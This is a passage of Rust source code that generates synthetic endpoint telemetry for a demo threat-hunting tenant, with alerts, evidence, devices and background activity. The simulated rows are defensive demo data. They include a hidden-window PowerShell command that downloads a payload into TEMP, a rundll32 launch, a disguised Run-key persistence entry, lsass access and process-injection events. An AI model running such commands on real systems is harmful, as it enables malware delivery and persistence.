//! The demo tenant's event tables, generated from its dataset: every alert's story on its machine (the
//! processes, files, connections, logons, registry changes and detections that explain it, with the
//! alert's own files, IPs, domains and user), the alerts and their evidence, the devices, and ordinary
//! activity around them. Deterministic: the same dataset gives the same rows.
//!
//! The source document's example alert dates from 2017, older than the 30 days hunting keeps; its story
//! is replayed two days before the tenant's "now", so that the default timespan shows it.

use crate::demo::generate::rng::Rng;
use crate::demo::{Dataset, SOURCE_ALERT_ID};
use crate::hunting::ticks_of;
use crate::hunting::TICKS_PER_SECOND;
use crate::hunting::{schema_table, Cell, HuntingTables, TableBuilder};
use crate::model::{Alert, File};

/// Ordinary events per alert, spread over the tenant's machines.
const BACKGROUND_PER_ALERT: usize = 1;

/// A process as the tables name it (interned strings).
#[derive(Clone, Copy)]
struct Proc {
    name: u32,
    path: u32,
    sha1: u32,
    sha256: u32,
    md5: u32,
    command: u32,
    pid: i64,
}

#[derive(Clone, Copy)]
struct Account {
    name: u32,
    domain: u32,
    sid: u32,
    upn: u32,
}

#[derive(Clone, Copy)]
struct Device {
    id: u32,
    name: u32,
    ip: u32,
}

/// A table being filled, with the columns its rows give.
struct Sink {
    builder: TableBuilder,
    cols: Vec<usize>,
}

impl Sink {
    fn new(table: &str, columns: &[&str]) -> Sink {
        let builder = TableBuilder::schema(schema_table(table));
        let cols = builder.columns(columns);
        Sink { builder, cols }
    }

    fn push(&mut self, t: &mut HuntingTables, cells: Vec<Cell>) {
        self.builder.push(t, &self.cols, cells);
    }
}

/// Columns every device event table starts with, and the initiating process after them.
const DEVICE: [&str; 4] = ["Timestamp", "DeviceId", "DeviceName", "ActionType"];
const INITIATING: [&str; 11] = [
    "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName",
    "InitiatingProcessAccountSid",
    "InitiatingProcessAccountUpn",
    "InitiatingProcessFileName",
    "InitiatingProcessFolderPath",
    "InitiatingProcessSHA1",
    "InitiatingProcessMD5",
    "InitiatingProcessCommandLine",
    "InitiatingProcessId",
    "ReportId",
];

fn cols(specific: &[&'static str]) -> Vec<&'static str> {
    DEVICE
        .iter()
        .chain(specific)
        .chain(INITIATING.iter())
        .copied()
        .collect()
}

struct Gen<'d> {
    data: &'d Dataset,
    t: HuntingTables,
    rng: Rng,
    report: i64,
    process: Sink,
    network: Sink,
    file: Sink,
    logon: Sink,
    registry: Sink,
    image: Sink,
    events: Sink,
    info: Sink,
    netinfo: Sink,
    alert_info: Sink,
    evidence: Sink,
    email: Sink,
    identity: Sink,
    /// Interned per dataset entity.
    devices: Vec<Device>,
    accounts: Vec<Account>,
    system: Vec<Proc>,
    /// Processes of dataset files, by file, name and user.
    procs: crate::hunting::FastMap<(u32, u32, u32), Proc>,
}

/// Generates the tables of `data`.
pub(crate) fn generate(data: &Dataset) -> HuntingTables {
    let seed = data.alerts.len() as u64 ^ 0x4855_4e54_0000_0018;
    let mut g = Gen {
        data,
        t: HuntingTables::new(),
        rng: Rng::new(seed),
        report: 1000,
        process: Sink::new(
            "DeviceProcessEvents",
            &cols(&[
                "FileName",
                "FolderPath",
                "SHA1",
                "SHA256",
                "MD5",
                "ProcessId",
                "ProcessCommandLine",
                "AccountDomain",
                "AccountName",
                "AccountSid",
                "AccountUpn",
                "InitiatingProcessParentFileName",
            ]),
        ),
        network: Sink::new(
            "DeviceNetworkEvents",
            &cols(&[
                "RemoteIP",
                "RemotePort",
                "RemoteUrl",
                "LocalIP",
                "LocalPort",
                "Protocol",
                "RemoteIPType",
            ]),
        ),
        file: Sink::new(
            "DeviceFileEvents",
            &cols(&[
                "FileName",
                "FolderPath",
                "SHA1",
                "SHA256",
                "MD5",
                "FileOriginUrl",
                "FileOriginIP",
                "FileSize",
            ]),
        ),
        logon: Sink::new(
            "DeviceLogonEvents",
            &cols(&[
                "LogonType",
                "AccountDomain",
                "AccountName",
                "AccountSid",
                "Protocol",
                "IsLocalAdmin",
                "LogonId",
                "RemoteIP",
                "RemoteDeviceName",
                "FailureReason",
            ]),
        ),
        registry: Sink::new(
            "DeviceRegistryEvents",
            &cols(&[
                "RegistryKey",
                "RegistryValueType",
                "RegistryValueName",
                "RegistryValueData",
            ]),
        ),
        image: Sink::new(
            "DeviceImageLoadEvents",
            &cols(&["FileName", "FolderPath", "SHA1", "SHA256", "MD5"]),
        ),
        events: Sink::new(
            "DeviceEvents",
            &cols(&[
                "FileName",
                "FolderPath",
                "SHA1",
                "AccountName",
                "AccountSid",
                "RemoteUrl",
                "RemoteIP",
                "AdditionalFields",
            ]),
        ),
        info: Sink::new(
            "DeviceInfo",
            &[
                "Timestamp",
                "DeviceId",
                "DeviceName",
                "ClientVersion",
                "PublicIP",
                "OSArchitecture",
                "OSPlatform",
                "OSBuild",
                "IsAzureADJoined",
                "AadDeviceId",
                "LoggedOnUsers",
                "OSVersion",
                "MachineGroup",
                "ReportId",
                "OnboardingStatus",
                "DeviceCategory",
                "DeviceType",
                "ExposureLevel",
                "AssetValue",
                "SensorHealthState",
            ],
        ),
        netinfo: Sink::new(
            "DeviceNetworkInfo",
            &[
                "Timestamp",
                "DeviceId",
                "DeviceName",
                "NetworkAdapterName",
                "MacAddress",
                "NetworkAdapterType",
                "NetworkAdapterStatus",
                "IPAddresses",
                "DnsAddresses",
                "ReportId",
            ],
        ),
        alert_info: Sink::new(
            "AlertInfo",
            &[
                "Timestamp",
                "AlertId",
                "Title",
                "Category",
                "Severity",
                "ServiceSource",
                "DetectionSource",
                "AttackTechniques",
            ],
        ),
        evidence: Sink::new(
            "AlertEvidence",
            &[
                "Timestamp",
                "AlertId",
                "Title",
                "Categories",
                "ServiceSource",
                "DetectionSource",
                "EntityType",
                "EvidenceRole",
                "FileName",
                "FolderPath",
                "SHA1",
                "SHA256",
                "ThreatFamily",
                "RemoteIP",
                "RemoteUrl",
                "AccountName",
                "AccountDomain",
                "AccountSid",
                "AccountUpn",
                "DeviceId",
                "DeviceName",
                "Severity",
            ],
        ),
        email: Sink::new(
            "EmailEvents",
            &[
                "Timestamp",
                "NetworkMessageId",
                "InternetMessageId",
                "SenderMailFromAddress",
                "SenderFromAddress",
                "SenderMailFromDomain",
                "SenderFromDomain",
                "SenderIPv4",
                "RecipientEmailAddress",
                "Subject",
                "EmailDirection",
                "DeliveryAction",
                "DeliveryLocation",
                "ThreatTypes",
                "AttachmentCount",
                "UrlCount",
            ],
        ),
        identity: Sink::new(
            "IdentityLogonEvents",
            &[
                "Timestamp",
                "ActionType",
                "Application",
                "LogonType",
                "Protocol",
                "AccountName",
                "AccountDomain",
                "AccountUpn",
                "AccountSid",
                "DeviceName",
                "IPAddress",
                "DestinationDeviceName",
                "FailureReason",
            ],
        ),
        devices: Vec::new(),
        accounts: Vec::new(),
        system: Vec::new(),
        procs: Default::default(),
    };
    g.intern_entities();
    g.devices_tables();
    let now = ticks_of(data.now.0);
    let window = now - 30 * 86_400 * TICKS_PER_SECOND;
    for i in 0..data.alerts.len() {
        g.alert(i, now, window);
        for _ in 0..BACKGROUND_PER_ALERT {
            g.background(now);
        }
    }
    let mut t = std::mem::take(&mut g.t);
    for sink in [
        g.process,
        g.network,
        g.file,
        g.logon,
        g.registry,
        g.image,
        g.events,
        g.info,
        g.netinfo,
        g.alert_info,
        g.evidence,
        g.email,
        g.identity,
    ] {
        sink.builder.finish(&mut t);
    }
    t.seal();
    t
}

/// Windows binaries every machine runs, as (name, folder).
const SYSTEM: [(&str, &str); 10] = [
    ("explorer.exe", "C:\\Windows\\"),
    ("svchost.exe", "C:\\Windows\\System32\\"),
    (
        "chrome.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\",
    ),
    (
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\",
    ),
    (
        "OUTLOOK.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\",
    ),
    (
        "WINWORD.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\",
    ),
    (
        "Teams.exe",
        "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\",
    ),
    ("cmd.exe", "C:\\Windows\\System32\\"),
    ("OneDrive.exe", "C:\\Program Files\\Microsoft OneDrive\\"),
    (
        "MsMpEng.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\",
    ),
];

impl Gen<'_> {
    fn id(&mut self, s: &str) -> u32 {
        self.t.intern(s)
    }

    fn intern_entities(&mut self) {
        let data = self.data;
        for m in &data.machines {
            let d = Device {
                id: self.t.intern(&m.id),
                name: self.t.intern(m.computer_dns_name.as_deref().unwrap_or("")),
                ip: self.t.intern(m.last_ip_address.as_deref().unwrap_or("")),
            };
            self.devices.push(d);
        }
        for u in &data.users {
            let name = u.account_name.as_deref().unwrap_or("");
            let a = Account {
                name: self.t.intern(name),
                domain: self.t.intern(u.account_domain.as_deref().unwrap_or("")),
                sid: self.t.intern(u.account_sid.as_deref().unwrap_or("")),
                upn: self.t.intern(&format!("{name}@contoso.com")),
            };
            self.accounts.push(a);
        }
        let mut rng = Rng::new(0x5157_4e4d);
        for (name, folder) in SYSTEM {
            let p = Proc {
                name: self.t.intern(name),
                path: self.t.intern(&format!("{folder}{name}")),
                sha1: self.t.intern(&rng.hex(40)),
                sha256: self.t.intern(&rng.hex(64)),
                md5: self.t.intern(&rng.hex(32)),
                command: self.t.intern(&format!("\"{name}\"")),
                pid: 0,
            };
            self.system.push(p);
        }
    }

    fn system(&mut self, name: &str) -> Proc {
        let i = match name {
            "explorer.exe" => 0,
            "svchost.exe" => 1,
            "chrome.exe" => 2,
            "msedge.exe" => 3,
            "OUTLOOK.EXE" => 4,
            "WINWORD.EXE" => 5,
            "Teams.exe" => 6,
            "cmd.exe" => 7,
            "OneDrive.exe" => 8,
            _ => 9,
        };
        let mut p = self.system[i];
        p.pid = 1000 + self.rng.below(30_000) as i64;
        p
    }

    /// A dataset file as a process: its name (as seen), its folder for its kind, its hashes.
    fn file_proc(
        &mut self,
        file: usize,
        name_index: usize,
        user: u32,
        command: Option<&str>,
    ) -> Proc {
        // The same file for the same user is the same process but for its id (most rows repeat one).
        let key = (file as u32, name_index as u32, user);
        if command.is_none() {
            if let Some(p) = self.procs.get(&key) {
                let mut p = *p;
                p.pid = 1000 + self.rng.below(30_000) as i64;
                return p;
            }
        }
        let data = self.data;
        let f: &File = &data.files[file];
        let name = data
            .file_names
            .get(file)
            .and_then(|names| names.get(name_index).or(names.first()))
            .cloned()
            .unwrap_or_else(|| "unknown.exe".into());
        let user_name = self.t.pool[user as usize].clone();
        let folder = folder_for(&name, f, &user_name);
        let cmd = command.map_or_else(|| command_for(&name, &folder), str::to_string);
        let p = Proc {
            name: self.id(&name),
            path: self.id(&format!("{folder}{name}")),
            sha1: self.id(f.sha1.as_deref().unwrap_or("")),
            sha256: self.id(f.sha256.as_deref().unwrap_or("")),
            md5: self.id(f.md5.as_deref().unwrap_or("")),
            command: self.id(&cmd),
            pid: 1000 + self.rng.below(30_000) as i64,
        };
        if command.is_none() {
            self.procs.insert(key, p);
        }
        p
    }

    fn next_report(&mut self) -> Cell<'static> {
        self.report += 1;
        Cell::Long(self.report)
    }

    /// The cells of a device event: the device part, then `specific`, then the initiating process.
    fn device_row<'c>(
        &mut self,
        t: i64,
        d: Device,
        action: &'c str,
        specific: Vec<Cell<'c>>,
        by: Proc,
        who: Account,
    ) -> Vec<Cell<'c>> {
        let mut cells = vec![
            Cell::Time(t),
            Cell::Id(d.id),
            Cell::Id(d.name),
            Cell::Str(action),
        ];
        cells.extend(specific);
        cells.extend([
            Cell::Id(who.domain),
            Cell::Id(who.name),
            Cell::Id(who.sid),
            Cell::Id(who.upn),
            Cell::Id(by.name),
            Cell::Id(by.path),
            Cell::Id(by.sha1),
            Cell::Id(by.md5),
            Cell::Id(by.command),
            Cell::Long(by.pid),
            self.next_report(),
        ]);
        cells
    }

    fn process_event(
        &mut self,
        t: i64,
        d: Device,
        child: Proc,
        parent: Proc,
        grandparent: u32,
        who: Account,
    ) {
        let specific = vec![
            Cell::Id(child.name),
            Cell::Id(child.path),
            Cell::Id(child.sha1),
            Cell::Id(child.sha256),
            Cell::Id(child.md5),
            Cell::Long(child.pid),
            Cell::Id(child.command),
            Cell::Id(who.domain),
            Cell::Id(who.name),
            Cell::Id(who.sid),
            Cell::Id(who.upn),
            Cell::Id(grandparent),
        ];
        let row = self.device_row(t, d, "ProcessCreated", specific, parent, who);
        self.process.push(&mut self.t, row);
    }

    #[allow(clippy::too_many_arguments)]
    fn network_event(
        &mut self,
        t: i64,
        d: Device,
        action: &str,
        ip: &str,
        port: i32,
        url: &str,
        by: Proc,
        who: Account,
    ) {
        let local_port = 49_152 + self.rng.below(16_000) as i32;
        let kind = if ip.starts_with("10.") {
            "Private"
        } else {
            "Public"
        };
        let specific = vec![
            Cell::Str(ip),
            Cell::Int(port),
            Cell::Str(url),
            Cell::Id(d.ip),
            Cell::Int(local_port),
            Cell::Str("Tcp"),
            Cell::Str(kind),
        ];
        let row = self.device_row(t, d, action, specific, by, who);
        self.network.push(&mut self.t, row);
    }

    #[allow(clippy::too_many_arguments)]
    fn file_event(
        &mut self,
        t: i64,
        d: Device,
        action: &str,
        f: Proc,
        origin: (&str, &str),
        size: i64,
        by: Proc,
        who: Account,
    ) {
        let specific = vec![
            Cell::Id(f.name),
            Cell::Id(f.path),
            Cell::Id(f.sha1),
            Cell::Id(f.sha256),
            Cell::Id(f.md5),
            Cell::Str(origin.0),
            Cell::Str(origin.1),
            Cell::Long(size),
        ];
        let row = self.device_row(t, d, action, specific, by, who);
        self.file.push(&mut self.t, row);
    }

    fn logon_event(
        &mut self,
        t: i64,
        d: Device,
        who: Account,
        logon_type: &str,
        failed: bool,
        remote: (&str, &str),
    ) {
        let winlogon = self.system("svchost.exe");
        let logon_id = 100_000 + self.rng.below(9_000_000) as i64;
        let specific = vec![
            Cell::Str(logon_type),
            Cell::Id(who.domain),
            Cell::Id(who.name),
            Cell::Id(who.sid),
            Cell::Str(if logon_type == "Network" {
                "NTLM"
            } else {
                "Kerberos"
            }),
            Cell::Bool(false),
            Cell::Long(logon_id),
            Cell::Str(remote.0),
            Cell::Str(remote.1),
            Cell::Str(if failed {
                "InvalidUserNameOrPassword"
            } else {
                ""
            }),
        ];
        let action = if failed {
            "LogonFailed"
        } else {
            "LogonSuccess"
        };
        let system = Account {
            name: self.id("system"),
            domain: self.id("nt authority"),
            sid: self.id("S-1-5-18"),
            upn: 0,
        };
        let row = self.device_row(t, d, action, specific, winlogon, system);
        self.logon.push(&mut self.t, row);
    }

    fn devices_tables(&mut self) {
        let data = self.data;
        let now = ticks_of(data.now.0);
        for (i, m) in data.machines.iter().enumerate() {
            let d = self.devices[i];
            let users: Vec<String> = data
                .logons
                .get(i)
                .into_iter()
                .flatten()
                .filter_map(|&u| data.users.get(u as usize))
                .map(|u| {
                    serde_json::json!({"UserName": u.account_name, "DomainName": u.account_domain, "Sid": u.account_sid}).to_string()
                })
                .collect();
            let logged_on = format!("[{}]", users.join(","));
            let server = m
                .os_platform
                .as_deref()
                .is_some_and(|p| p.contains("Server"));
            let seen = m.last_seen.map_or(now, |t| ticks_of(t.0));
            // A full report every few days of the window, the last at the machine's last contact.
            for k in 0..3i64 {
                let t = seen - k * 10 * 86_400 * TICKS_PER_SECOND;
                let report = self.next_report();
                let cells = vec![
                    Cell::Time(t),
                    Cell::Id(d.id),
                    Cell::Id(d.name),
                    Cell::Str(m.agent_version.as_deref().unwrap_or("")),
                    Cell::Str(m.last_external_ip_address.as_deref().unwrap_or("")),
                    Cell::Str("64-bit"),
                    Cell::Str(m.os_platform.as_deref().unwrap_or("")),
                    m.os_build
                        .map_or(Cell::Value(crate::hunting::Value::Null), Cell::Long),
                    Cell::Bool(m.is_aad_joined.unwrap_or(false)),
                    Cell::Str(m.aad_device_id.as_deref().unwrap_or("")),
                    Cell::Str(&logged_on),
                    Cell::Str(m.os_version.as_deref().unwrap_or("")),
                    Cell::Str(m.rbac_group_name.as_deref().unwrap_or("")),
                    report,
                    Cell::Str(m.onboarding_status.as_deref().unwrap_or("Onboarded")),
                    Cell::Str("Endpoint"),
                    Cell::Str(if server { "Server" } else { "Workstation" }),
                    Cell::Str(m.exposure_level.as_deref().unwrap_or("")),
                    Cell::Str(m.device_value.as_deref().unwrap_or("Normal")),
                    Cell::Str(m.health_status.as_deref().unwrap_or("Active")),
                ];
                self.info.push(&mut self.t, cells);
            }
            for a in m.ip_addresses.iter().flatten() {
                let ip = a.ip_address.as_deref().unwrap_or("");
                let addresses = serde_json::json!([{"IPAddress": ip, "SubnetPrefix": 24, "AddressType": "Private"}]).to_string();
                let report = self.next_report();
                let cells = vec![
                    Cell::Time(seen),
                    Cell::Id(d.id),
                    Cell::Id(d.name),
                    Cell::Str("Ethernet"),
                    Cell::Str(a.mac_address.as_deref().unwrap_or("")),
                    Cell::Str("Ethernet"),
                    Cell::Str(a.operational_status.as_deref().unwrap_or("Up")),
                    Cell::Str(&addresses),
                    Cell::Str("[\"10.0.0.53\",\"10.0.0.54\"]"),
                    report,
                ];
                self.netinfo.push(&mut self.t, cells);
            }
        }
    }

    /// The rows that explain alert `i`, and the alert and its evidence.
    fn alert(&mut self, i: usize, now: i64, window: i64) {
        let data = self.data;
        let a: &Alert = &data.alerts[i];
        let Some(link) = data.links.get(i) else {
            return;
        };
        let Some(&d) = self.devices.get(link.machine as usize) else {
            return;
        };
        let created = a.alert_creation_time.map_or(now, |t| ticks_of(t.0));
        // The 2017 example is replayed inside the window (see the module's note).
        let (t_alert, t_first) = if created < window {
            let t = now - 2 * 86_400 * TICKS_PER_SECOND;
            (t, t - 25 * 60 * TICKS_PER_SECOND)
        } else {
            let first = a
                .first_event_time
                .map_or(created, |t| ticks_of(t.0))
                .min(created);
            (created, first)
        };
        let mins = |m: i64| m * 60 * TICKS_PER_SECOND;
        let user = link
            .user
            .and_then(|u| self.accounts.get(u as usize).copied())
            .unwrap_or(Account {
                name: self.id("system"),
                domain: self.id("nt authority"),
                sid: self.id("S-1-5-18"),
                upn: 0,
            });
        let user_name = self.t.pool[user.name as usize].to_string();
        let category = a.category.as_deref().unwrap_or("");
        let ip = |k: usize| {
            link.ips
                .get(k)
                .and_then(|&x| data.ips.get(x as usize))
                .map(|x| x.id.clone())
        };
        let domain = |k: usize| {
            link.domains
                .get(k)
                .and_then(|&x| data.domains.get(x as usize))
                .map(|x| x.host.clone())
        };
        let ip0 = ip(0).unwrap_or_default();
        let domain0 = domain(0).unwrap_or_default();

        // The user signed in before the activity.
        // The user signed in before the activity (every other alert shows it, every fourth on the DC too).
        let source = a.id == SOURCE_ALERT_ID;
        if source || i.is_multiple_of(2) {
            self.logon_event(t_first - mins(45), d, user, "Interactive", false, ("", ""));
        }
        let id_logon = vec![
            Cell::Time(t_first - mins(46)),
            Cell::Str("LogonSuccess"),
            Cell::Str("Active Directory"),
            Cell::Str("Interactive"),
            Cell::Str("Kerberos"),
            Cell::Id(user.name),
            Cell::Id(user.domain),
            Cell::Id(user.upn),
            Cell::Id(user.sid),
            Cell::Id(d.name),
            Cell::Id(d.ip),
            Cell::Str("dc01.corp.contoso.com"),
            Cell::Str(""),
        ];
        if source || i.is_multiple_of(4) {
            self.identity.push(&mut self.t, id_logon);
        }

        // Each file of the alert arrives, runs and touches the network.
        let explorer = self.system("explorer.exe");
        let mut step = 0i64;
        let mut first_proc = None;
        for (k, &(file, name_index)) in link.files.iter().enumerate() {
            let file = file as usize;
            if file >= data.files.len() {
                continue;
            }
            step += 1;
            let t = t_first + mins(step * 2);
            let f = data.files[file].clone();
            let is_doc = matches!(f.file_type.as_deref(), Some("Document"));
            let is_script = matches!(f.file_type.as_deref(), Some("Script"));
            let proc_ = self.file_proc(file, name_index as usize, user.name, None);
            let name = self.t.pool[proc_.name as usize].to_string();
            let size = f.size.unwrap_or(0) as i64;
            // How it arrived: a document by mail, anything else downloaded from the alert's domain.
            let origin_url = if domain0.is_empty() {
                String::new()
            } else {
                format!("https://{domain0}/dl/{name}")
            };
            let (dropper, parent_name) = if is_doc {
                (self.system("OUTLOOK.EXE"), explorer.name)
            } else if k == 0 && category != "Malware" && !domain0.is_empty() {
                let cmd = format!("powershell.exe -NoProfile -WindowStyle Hidden -Command \"Invoke-WebRequest -Uri {origin_url} -OutFile $env:TEMP\\{name}\"");
                let ps = self.file_proc(0, 0, user.name, Some(&cmd));
                self.process_event(t - mins(1), d, ps, explorer, 0, user);
                (ps, explorer.name)
            } else {
                (self.system("msedge.exe"), explorer.name)
            };
            self.file_event(
                t,
                d,
                "FileCreated",
                proc_,
                (&origin_url, &ip0),
                size,
                dropper,
                user,
            );
            if is_doc {
                self.email(t - mins(3), &user_name, &name, &domain0, &ip0, user);
                let word = self.system("WINWORD.EXE");
                self.process_event(t + mins(1), d, word, explorer, 0, user);
                continue;
            }
            // A payload PowerShell downloaded is started by that PowerShell.
            let parent = if is_script {
                self.system("cmd.exe")
            } else if self.t.pool[dropper.name as usize].eq_ignore_ascii_case("powershell.exe") {
                dropper
            } else {
                explorer
            };
            let runner = if is_script {
                let cmd = format!("wscript.exe \"{}\"", self.t.pool[proc_.path as usize]);
                let mut p = self.system("cmd.exe");
                p.command = self.id(&cmd);
                p
            } else {
                proc_
            };
            self.process_event(t + mins(1), d, runner, parent, parent_name, user);
            if name.ends_with(".dll") {
                let host = self.file_proc(
                    1,
                    0,
                    user.name,
                    Some(&format!("rundll32.exe {name},DllRegisterServer")),
                );
                let specific = vec![
                    Cell::Id(proc_.name),
                    Cell::Id(proc_.path),
                    Cell::Id(proc_.sha1),
                    Cell::Id(proc_.sha256),
                    Cell::Id(proc_.md5),
                ];
                let row = self.device_row(t + mins(1), d, "ImageLoaded", specific, host, user);
                self.image.push(&mut self.t, row);
            }
            if first_proc.is_none() {
                first_proc = Some(proc_);
            }
            if f.windows_defender_av_threat_name.is_some() && self.rng.chance(0.6) {
                let threat = f
                    .windows_defender_av_threat_name
                    .clone()
                    .unwrap_or_default();
                let extra = serde_json::json!({"ThreatName": threat, "WasRemediated": category == "Malware", "ReportSource": "Realtime"}).to_string();
                let defender = self.system("MsMpEng.exe");
                let specific = vec![
                    Cell::Id(proc_.name),
                    Cell::Id(proc_.path),
                    Cell::Id(proc_.sha1),
                    Cell::Id(user.name),
                    Cell::Id(user.sid),
                    Cell::Str(""),
                    Cell::Str(""),
                    Cell::Str(&extra),
                ];
                let row = self.device_row(
                    t + mins(2),
                    d,
                    "AntivirusDetection",
                    specific,
                    defender,
                    user,
                );
                self.events.push(&mut self.t, row);
            }
        }
        let actor_proc = match first_proc {
            Some(p) => p,
            None => self.system("svchost.exe"),
        };

        // What the alert's kind did on the machine.
        let t = t_first + mins(step * 2 + 3);
        if a.id == SOURCE_ALERT_ID
            || category.contains("DefenseEvasion")
            || a.title
                .as_deref()
                .is_some_and(|t| t.contains("injection") || t.contains("hollowing"))
        {
            let target = self.system("svchost.exe");
            let extra = serde_json::json!({"TargetProcessName": "svchost.exe", "TargetProcessId": target.pid}).to_string();
            for action in [
                "CreateRemoteThreadApiCall",
                "WriteProcessMemoryApiCall",
                "NtAllocateVirtualMemoryRemoteApiCall",
            ] {
                let specific = vec![
                    Cell::Id(target.name),
                    Cell::Id(target.path),
                    Cell::Id(target.sha1),
                    Cell::Id(user.name),
                    Cell::Id(user.sid),
                    Cell::Str(""),
                    Cell::Str(""),
                    Cell::Str(&extra),
                ];
                let row = self.device_row(t, d, action, specific, actor_proc, user);
                self.events.push(&mut self.t, row);
            }
            let mut hollowed = target;
            hollowed.command = self.id("C:\\Windows\\System32\\svchost.exe -k netsvcs");
            self.process_event(t, d, hollowed, actor_proc, explorer.name, user);
        }
        if category.contains("Persistence") || category == "Installation" {
            let path = self.t.pool[actor_proc.path as usize].to_string();
            let specific = vec![
                Cell::Str("HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
                Cell::Str("String"),
                Cell::Str("WindowsUpdateHelper"),
                Cell::Str(&path),
            ];
            let row = self.device_row(
                t + mins(1),
                d,
                "RegistryValueSet",
                specific,
                actor_proc,
                user,
            );
            self.registry.push(&mut self.t, row);
        }
        if category.contains("CredentialAccess") {
            let lsass_extra =
                serde_json::json!({"TargetProcessName": "lsass.exe", "DesiredAccess": "0x1010"})
                    .to_string();
            let specific = vec![
                Cell::Str("lsass.exe"),
                Cell::Str("C:\\Windows\\System32\\lsass.exe"),
                Cell::Str(""),
                Cell::Id(user.name),
                Cell::Id(user.sid),
                Cell::Str(""),
                Cell::Str(""),
                Cell::Str(&lsass_extra),
            ];
            let row = self.device_row(t, d, "OpenProcessApiCall", specific, actor_proc, user);
            self.events.push(&mut self.t, row);
        }
        if category.contains("LateralMovement") {
            let other = self.rng.below(self.devices.len());
            let remote = self.devices[other];
            let remote_ip = self.t.pool[remote.ip as usize].to_string();
            let remote_name = self.t.pool[remote.name as usize].to_string();
            self.logon_event(t, d, user, "Network", false, (&remote_ip, &remote_name));
        }
        // The hollowed or malicious process calls out to the alert's IPs and domains.
        let calls = link.ips.len().max(link.domains.len());
        for k in 0..calls {
            let ip_k = ip(k).unwrap_or_else(|| ip0.clone());
            let url = domain(k).unwrap_or_default();
            let port = if k == 0 {
                443
            } else {
                [80, 443, 8080, 4444][self.rng.below(4)]
            };
            // The first address is always called; the others now and then.
            if (ip_k.is_empty() && url.is_empty()) || (k > 0 && !source && !self.rng.chance(0.35)) {
                continue;
            }
            self.network_event(
                t + mins(2 + k as i64),
                d,
                "ConnectionSuccess",
                &ip_k,
                port,
                &url,
                actor_proc,
                user,
            );
        }

        // The alert and its evidence.
        let title = a.title.clone().unwrap_or_default();
        let severity = a.severity.clone().unwrap_or_default();
        let source = a.detection_source.clone().unwrap_or_default();
        let techniques = serde_json::to_string(&a.mitre_techniques.clone().unwrap_or_default())
            .unwrap_or_default();
        let alert_id = self.id(&a.id);
        let title_id = self.id(&title);
        let cells = vec![
            Cell::Time(t_alert),
            Cell::Id(alert_id),
            Cell::Id(title_id),
            Cell::Str(category),
            Cell::Str(&severity),
            Cell::Str("Microsoft Defender for Endpoint"),
            Cell::Str(&source),
            Cell::Str(&techniques),
        ];
        self.alert_info.push(&mut self.t, cells);
        let categories = format!("[\"{category}\"]");
        let evidence = |g: &mut Gen, entity: &str, role: &str, fill: Vec<(usize, Cell)>| {
            let mut cells = vec![
                Cell::Time(t_alert),
                Cell::Id(alert_id),
                Cell::Id(title_id),
                Cell::Str(&categories),
                Cell::Str("Microsoft Defender for Endpoint"),
                Cell::Str(&source),
                Cell::Str(entity),
                Cell::Str(role),
            ];
            let mut rest: Vec<Cell> = (0..13).map(|_| Cell::Str("")).collect();
            for (k, c) in fill {
                rest[k] = c;
            }
            cells.extend(rest);
            cells.push(Cell::Str(&severity));
            g.evidence.push(&mut g.t, cells);
        };
        // Evidence columns after EvidenceRole: FileName 0, FolderPath 1, SHA1 2, SHA256 3, ThreatFamily 4,
        // RemoteIP 5, RemoteUrl 6, AccountName 7, AccountDomain 8, AccountSid 9, AccountUpn 10, DeviceId 11,
        // DeviceName 12.
        evidence(
            self,
            "Machine",
            "Impacted",
            vec![(11, Cell::Id(d.id)), (12, Cell::Id(d.name))],
        );
        if link.user.is_some() {
            evidence(
                self,
                "User",
                "Impacted",
                vec![
                    (7, Cell::Id(user.name)),
                    (8, Cell::Id(user.domain)),
                    (9, Cell::Id(user.sid)),
                    (10, Cell::Id(user.upn)),
                ],
            );
        }
        for &(file, name_index) in &link.files {
            let Some(f) = data.files.get(file as usize) else {
                continue;
            };
            let p = self.file_proc(file as usize, name_index as usize, user.name, Some(""));
            let family = a.threat_family_name.clone().unwrap_or_default();
            let family_id = self.id(&family);
            let _ = f;
            evidence(
                self,
                "File",
                "Related",
                vec![
                    (0, Cell::Id(p.name)),
                    (1, Cell::Id(p.path)),
                    (2, Cell::Id(p.sha1)),
                    (3, Cell::Id(p.sha256)),
                    (4, Cell::Id(family_id)),
                ],
            );
        }
        for k in 0..link.ips.len() {
            if let Some(x) = ip(k) {
                let id = self.id(&x);
                evidence(self, "Ip", "Related", vec![(5, Cell::Id(id))]);
            }
        }
        for k in 0..link.domains.len() {
            if let Some(x) = domain(k) {
                let id = self.id(&x);
                evidence(self, "Url", "Related", vec![(6, Cell::Id(id))]);
            }
        }
    }

    fn email(
        &mut self,
        t: i64,
        user: &str,
        attachment: &str,
        domain: &str,
        ip: &str,
        _who: Account,
    ) {
        let message = format!(
            "{}-{}-{}-{}-{}",
            self.rng.hex(8),
            self.rng.hex(4),
            self.rng.hex(4),
            self.rng.hex(4),
            self.rng.hex(12)
        );
        let sender_domain = if domain.is_empty() {
            "mail-invoices.com"
        } else {
            domain
        };
        let sender = format!("billing@{sender_domain}");
        let internet_id = format!("<{}@{sender_domain}>", self.rng.hex(16));
        let subject = format!("Invoice {attachment} – payment overdue");
        let recipient = format!("{user}@contoso.com");
        let cells = vec![
            Cell::Time(t),
            Cell::Str(&message),
            Cell::Str(&internet_id),
            Cell::Str(&sender),
            Cell::Str(&sender),
            Cell::Str(sender_domain),
            Cell::Str(sender_domain),
            Cell::Str(ip),
            Cell::Str(&recipient),
            Cell::Str(&subject),
            Cell::Str("Inbound"),
            Cell::Str("Delivered"),
            Cell::Str("Inbox/folder"),
            Cell::Str("Malware"),
            Cell::Int(1),
            Cell::Int(0),
        ];
        self.email.push(&mut self.t, cells);
    }

    /// An ordinary event on a random machine at a random time of the window.
    fn background(&mut self, now: i64) {
        let data = self.data;
        if self.devices.is_empty() {
            return;
        }
        let m = self.rng.below(self.devices.len());
        let d = self.devices[m];
        let t = now - (self.rng.next_u64() % (30 * 86_400 * TICKS_PER_SECOND as u64)) as i64;
        let who = data
            .logons
            .get(m)
